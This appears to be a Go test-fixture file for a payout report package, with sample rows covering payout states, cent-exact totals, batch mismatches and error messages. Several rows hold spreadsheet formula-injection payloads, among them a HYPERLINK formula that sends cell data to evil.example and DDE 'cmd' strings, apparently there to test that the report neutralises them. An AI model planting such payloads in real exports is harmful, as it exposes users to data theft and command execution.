package report

import (
	"time"

	"github.com/acme/payout/internal/lifecycle"
	"github.com/acme/payout/internal/money"
)

var (
	loadedAt = time.Date(2026, 1, 15, 9, 30, 0, 0, time.UTC)
	// A time in another zone: reports must write it in UTC.
	updatedAt = time.Date(2026, 1, 15, 10, 45, 12, 500_000_000, time.FixedZone("CET", 3600))
)

func amt(s string) money.Amount {
	a, err := money.Parse(s, 2)
	if err != nil {
		panic(err)
	}
	return a
}

// sumRows totals rows independently of the package: in integer cents.
func sumRows(rows []Row) money.Amount {
	var cents int64
	for _, r := range rows {
		cents += r.Amount.Minor(2)
	}
	return money.FromMinor(cents, 2)
}

func batchOf(id, file string, rows []Row) Batch {
	return Batch{ID: id, File: file, LoadedAt: loadedAt, Rows: len(rows), Total: sumRows(rows), Scale: 2}
}

// mixedRows has rows in every state, cells that start with every dangerous
// character, and full card numbers where none may appear.
func mixedRows() []Row {
	return []Row{
		{Line: 2, ExternalID: "PAY-0001", Amount: amt("100.00"), Destination: "411111******1111", State: string(lifecycle.Created),
			PSPOrderID: "ord-81723", PSPStatus: "SUCCESS", Attempts: 1, UpdatedAt: updatedAt},
		{Line: 3, ExternalID: `=HYPERLINK("http://evil.example/?d="&A1,"click")`, Amount: amt("25.5"), Destination: "555555******4444",
			State: string(lifecycle.Rejected), Attempts: 1, Error: "amount exceeds daily limit", UpdatedAt: updatedAt},
		{Line: 4, ExternalID: "PAY-0003", Amount: amt("7.25"), Destination: "400000******0002", State: string(lifecycle.NeedsReview),
			Attempts: 3, Error: "+cmd|' /C calc'!A0", UpdatedAt: updatedAt},
		{Line: 5, ExternalID: "PAY-0004", Amount: amt("0.01"), Destination: "411111******1111", State: string(lifecycle.Checking),
			Attempts: 1, Error: "-1+1", UpdatedAt: updatedAt},
		{Line: 6, ExternalID: "PAY-0005", Amount: amt("12"), Destination: "411111******1111", State: string(lifecycle.Submitting),
			Attempts: 1, Error: "@SUM(1+1)*cmd|' /C calc'!A0", UpdatedAt: updatedAt},
		{Line: 7, ExternalID: "PAY-0006", Amount: amt("3.30"), Destination: "411111******1111", State: string(lifecycle.Queued),
			Error: "\tleading tab"},
		{Line: 8, ExternalID: "PAY-0007", Amount: amt("3.40"), Destination: "411111******1111", State: string(lifecycle.Rejected),
			Attempts: 1, Error: "\rleading carriage return", UpdatedAt: updatedAt,
			ResolvedBy: "alice", ResolutionNote: `=HYPERLINK("http://evil.example") bank says card 4111111111111111 is closed`},
		{Line: 9, ExternalID: "PAY-0008", Amount: amt("50.00"), Destination: "411111******1111", State: string(lifecycle.Rejected),
			Attempts: 1, PSPStatus: "FAILED", Error: `{"error":"card 4111111111111111 is blocked","card":"4111 1111 1111 1111"}`, UpdatedAt: updatedAt},
		{Line: 10, ExternalID: `INV "7", part 2`, Amount: amt("1.99"), Destination: "5555555555554444", State: string(lifecycle.Created),
			PSPOrderID: "-42", PSPStatus: "PROCESSING", Attempts: 2, UpdatedAt: updatedAt,
			ResolvedBy: "-bob", ResolutionNote: "@seen in the PSP back office, \"ok\"\nsecond line"},
		{Line: 11, ExternalID: "'already quoted", Amount: amt("1234.56"), Destination: "411111******1111", State: string(lifecycle.Created),
			PSPOrderID: "ord-81724", PSPStatus: "SUCCESS", Attempts: 1, Error: "note: a=b+c, <ok> & done", UpdatedAt: updatedAt},
		{Line: 12, ExternalID: "Zahlung Müller 2026-01", Amount: amt("0.10"), Destination: "411111******1111", State: string(lifecycle.Created),
			PSPOrderID: "202601150000123456", PSPStatus: "SUCCESS", Attempts: 1, Error: "line one\nline two", UpdatedAt: updatedAt},
	}
}

// centsRows are amounts whose float64 sum is inexact.
func centsRows() []Row {
	var rows []Row
	for i := range 30 {
		a := "0.10"
		if i%2 == 1 {
			a = "0.20"
		}
		rows = append(rows, Row{Line: i + 2, ExternalID: "C-" + string(rune('A'+i%26)) + string(rune('0'+i/26)),
			Amount: amt(a), Destination: "411111******1111", State: string(lifecycle.Created),
			PSPOrderID: "ord-" + string(rune('a'+i%26)), PSPStatus: "SUCCESS", Attempts: 1, UpdatedAt: updatedAt})
	}
	return rows
}

// mismatchRows are rows whose sum differs from the file total, with a row
// missing.
func mismatchRows() ([]Row, Batch) {
	rows := []Row{
		{Line: 2, ExternalID: "M-1", Amount: amt("40.00"), Destination: "411111******1111", State: string(lifecycle.Created), PSPOrderID: "o1", PSPStatus: "SUCCESS", Attempts: 1, UpdatedAt: updatedAt},
		{Line: 3, ExternalID: "M-2", Amount: amt("29.70"), Destination: "411111******1111", State: string(lifecycle.Rejected), Attempts: 1, Error: "invalid card", UpdatedAt: updatedAt},
		{Line: 5, ExternalID: "M-4", Amount: amt("30.00"), Destination: "411111******1111", State: string(lifecycle.Created), PSPOrderID: "o4", PSPStatus: "SUCCESS", Attempts: 1, UpdatedAt: updatedAt},
	}
	b := Batch{ID: "b-mismatch", File: "mismatch.csv", LoadedAt: loadedAt, Rows: 4, Total: amt("100.00"), Scale: 2}
	return rows, b
}

func errorRows() []ErrorRow {
	return []ErrorRow{
		{File: "payouts.csv", Line: 0, Column: "", Message: "missing column amount"},
		{File: "payouts.csv", Line: 5, Column: "amount", Message: `amount "1,000.00": use '.' as the decimal separator and no thousands separator`},
		{File: "payouts.csv", Line: 7, Column: "destination", Message: "card number 4111111111111112 fails the Luhn check (mistyped digit?)"},
		{File: "payouts.csv", Line: 9, Column: "externalId", Message: `=HYPERLINK("http://evil.example") is a duplicate of line 3`},
		{File: "-payouts.csv", Line: 11, Column: "amount", Message: "@SUM(A1:A9) is not a plain decimal number"},
	}
}

// outcomeRows has a row in every state and every outcome group, with the
// PSP's status words and failure reasons, and amounts whose float64 sum is
// inexact.
func outcomeRows() []Row {
	return []Row{
		{Line: 2, ExternalID: "OUT-1", Amount: amt("100.10"), Destination: "411111******1111", State: string(lifecycle.Paid),
			PSPOrderID: "ord-1", PSPStatus: "Paid", Attempts: 1, UpdatedAt: updatedAt},
		{Line: 3, ExternalID: "OUT-2", Amount: amt("0.20"), Destination: "555555******4444", State: string(lifecycle.Paid),
			PSPOrderID: "ord-2", PSPStatus: "Completed", Attempts: 2, UpdatedAt: updatedAt},
		{Line: 4, ExternalID: "OUT-3", Amount: amt("250.50"), Destination: "411111******1111", State: string(lifecycle.Failed),
			PSPOrderID: "ord-3", PSPStatus: "Declined", Attempts: 1, Error: "card 4111111111111111 is closed by the issuer", UpdatedAt: updatedAt},
		{Line: 5, ExternalID: "OUT-4", Amount: amt("75"), Destination: "telecom MTS", State: string(lifecycle.Failed),
			PSPOrderID: "ord-4", PSPStatus: "-Error", Attempts: 1, Error: "=subscriber unknown", UpdatedAt: updatedAt},
		{Line: 6, ExternalID: "OUT-5", Amount: amt("12.34"), Destination: "411111******1111", State: string(lifecycle.Created),
			PSPOrderID: "ord-5", PSPStatus: "Processing", Attempts: 1, UpdatedAt: updatedAt, Awaiting: true},
		{Line: 7, ExternalID: "OUT-6", Amount: amt("9.99"), Destination: "411111******1111", State: string(lifecycle.Created),
			PSPOrderID: "ord-6", PSPStatus: "Created", Attempts: 1, UpdatedAt: updatedAt},
		{Line: 8, ExternalID: "OUT-7", Amount: amt("33.33"), Destination: "411111******1111", State: string(lifecycle.Rejected),
			Attempts: 1, Error: "amount exceeds daily limit", UpdatedAt: updatedAt},
		{Line: 9, ExternalID: "OUT-8", Amount: amt("44.44"), Destination: "411111******1111", State: string(lifecycle.NeedsReview),
			PSPOrderID: "ord-8", PSPStatus: "Processing", Attempts: 1, UpdatedAt: updatedAt,
			Error: "no final status from the PSP within the outcome window; last status Processing; ask the PSP whether the money was sent"},
		{Line: 10, ExternalID: "OUT-9", Amount: amt("55.55"), Destination: "411111******1111", State: string(lifecycle.NeedsReview),
			Attempts: 3, Error: "PSP has no order after 3 creates; a person must decide", UpdatedAt: updatedAt},
		{Line: 11, ExternalID: "OUT-10", Amount: amt("66.66"), Destination: "411111******1111", State: string(lifecycle.NeedsReview),
			Attempts: 1, Error: "PSP did not take the request after 6 tries (nothing was sent): HTTP 429", UpdatedAt: updatedAt},
		{Line: 12, ExternalID: "OUT-11", Amount: amt("77.77"), Destination: "411111******1111", State: string(lifecycle.NeedsReview),
			Attempts: 1, Error: "status unknown after 10 status checks without an answer: nothing was sent? HTTP 502", UpdatedAt: updatedAt},
		{Line: 13, ExternalID: "OUT-12", Amount: amt("8.88"), Destination: "411111******1111", State: string(lifecycle.Cancelled),
			Error: "stopped by finance", UpdatedAt: updatedAt},
		{Line: 14, ExternalID: "OUT-13", Amount: amt("0.30"), Destination: "411111******1111", State: string(lifecycle.Checking),
			Attempts: 1, Error: "create answer unknown: timeout", UpdatedAt: updatedAt},
		{Line: 15, ExternalID: "OUT-14", Amount: amt("1.01"), Destination: "411111******1111", State: string(lifecycle.Submitting),
			Attempts: 1, UpdatedAt: updatedAt},
		{Line: 16, ExternalID: "OUT-15", Amount: amt("2.02"), Destination: "411111******1111", State: string(lifecycle.Queued)},
		{Line: 17, ExternalID: "OUT-16", Amount: amt("19.99"), Destination: "411111******1111", State: string(lifecycle.Returned),
			PSPOrderID: "ord-16", PSPStatus: "REFUNDED", Attempts: 1, UpdatedAt: updatedAt,
			Error: "PSP status REFUNDED after paid: the money came back: beneficiary account closed"},
	}
}
